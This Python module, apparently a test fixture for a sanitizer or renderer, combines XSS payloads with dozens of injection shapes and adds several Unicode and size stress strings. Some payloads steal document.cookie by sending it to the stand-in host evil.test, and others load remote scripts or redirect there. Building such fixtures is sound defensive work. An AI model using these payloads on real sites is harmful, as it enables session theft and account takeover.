"""Three hundred texts that would like to be more than text."""

from __future__ import annotations

from itertools import product

_PAYLOADS = (
    "alert(1)", "alert(document.cookie)", "fetch('//evil.test/'+document.cookie)",
    "location='//evil.test'", "import('//evil.test/x.js')",
)  # fmt: skip
_SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>",
    '"><svg onload={}>', "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<details open ontoggle={}>x</details>",
    "<a href='javascript:{}'>click</a>", "[click](javascript:{})", "![x](x onerror={})",
    "<input autofocus onfocus={}>", "<math><mtext></table><style><img src=x onerror={}>",
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "<style>@import '//evil.test/{}';</style>", "<link rel=stylesheet href=//evil.test/{}>",
    "<base href=//evil.test/{}>", "<meta http-equiv=refresh content='0;url=//evil.test/{}'>",
    "<form action=//evil.test/{}><button>x</button></form>", "<object data=//evil.test/{}>",
    "<embed src=//evil.test/{}>", "<video src=//evil.test onerror={}>", "vbscript:{}",
    "<template><script>{}</script></template>", "<!--><script>{}</script>-->",
    "]]><script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "`${{{}}}`",
    "\\\"-{}-\\\"", "'-{}-'", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<x style='background:url(//evil.test/{})'>", "url(javascript:{})", "expression({})",
    "<IMG SRC=&#106;avascript:{}>", "<<script>{}//<</script>", "<script/x>{}</script>",
    "<svg/onload={}>", "<p onclick={}>x</p>", "<marquee onstart={}>", "<a href=//evil.test>{}</a>",
    "\u202e<script>{}</script>\u202c", "\u2066\u202e{}\u2069", "\u200b<b onmouseover={}>",
    "\ufeff<script>{}</script>", "=cmd|'{}'!A1",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "__proto__ {}", "constructor {}", "<slot onslotchange={}>",
)  # fmt: skip
TEXTS: tuple[str, ...] = (
    *(shape.format(payload) for shape, payload in product(_SHAPES, _PAYLOADS)),
    "w" * 20_000,
    "\u202e" * 500 + "gnorw",
    "\u2067" * 300,
    "e" + "\u0301" * 2_000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
    "/" * 3_000,
    "#" * 50 + " heading",
    "| a | b |\n|---|---|\n" * 50,
    "> " * 400 + "deep",
    "[" * 2_000 + "]" * 2_000,
)
